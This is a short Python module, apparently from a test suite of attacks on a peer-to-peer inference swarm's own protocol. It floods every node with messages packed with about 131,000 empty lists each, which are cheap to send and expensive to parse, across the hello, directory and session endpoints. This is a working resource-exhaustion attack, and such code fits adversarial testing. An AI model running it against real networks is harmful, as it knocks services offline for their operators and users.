"""Messages that hold nothing but empty lists: small to send, thousands of objects to parse."""

from __future__ import annotations

import asyncio
import contextlib
import secrets

from attacks.target import Stranger, Target, stranger
from protocols import frame
from protocols.errors import SwarmError
from protocols.inference import Open
from protocols.services import DIRECTORY, HELLO, SESSION

BYTES = 131_000


def _frame(kind: str) -> bytes:
    return frame.encode({"t": kind, "x": [[]] * BYTES})


async def attack(target: Target) -> None:
    us = await stranger(target)
    target.begun()
    await asyncio.gather(*(_flood(us, number) for number in range(len(us.nodes))))


async def _flood(us: Stranger, number: int) -> None:
    hop = us.hop(number)
    while True:
        try:
            channel = await us.peer.pool.channel(hop.peer, hop.addresses, hop.certificate)
            for method, kind in ((HELLO, "hello"), (DIRECTORY, "directory?")):
                with contextlib.suppress(SwarmError):
                    await channel.unary(method, _frame(kind), 5.0)
            stream = await channel.stream(SESSION)
            grant = us.grant([hop], secrets.token_bytes(16))
            await stream.send(Open(grant=grant, index=0, dtype="float32").encode())
            await stream.send(_frame("step"))
        except SwarmError:
            pass
        await asyncio.sleep(3 * BYTES / 500_000)  # 0.5 MB/s
